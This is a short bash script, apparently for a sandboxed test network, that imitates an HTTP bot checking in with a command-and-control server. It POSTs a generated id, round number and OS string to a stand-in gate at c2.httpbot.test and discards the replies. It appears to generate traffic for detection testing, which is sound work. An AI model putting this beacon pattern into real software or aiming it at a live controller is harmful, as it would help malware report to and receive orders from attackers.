#!/bin/bash
# Imitates an HTTP bot's check-in loop: every 2 seconds it POSTs its id to the same gate on the same C2
# name, with its own User-Agent, and would run what it gets back (the fake web's page is ignored).
id=$(cat /proc/sys/kernel/random/uuid)
for round in 1 2 3 4 5 6; do
  curl -s -A 'Mozilla/4.0 (compatible; corpusbot 2.1)' -d "id=$id&round=$round&os=linux" http://c2.httpbot.test/gate.php -o /dev/null
  sleep 2
done
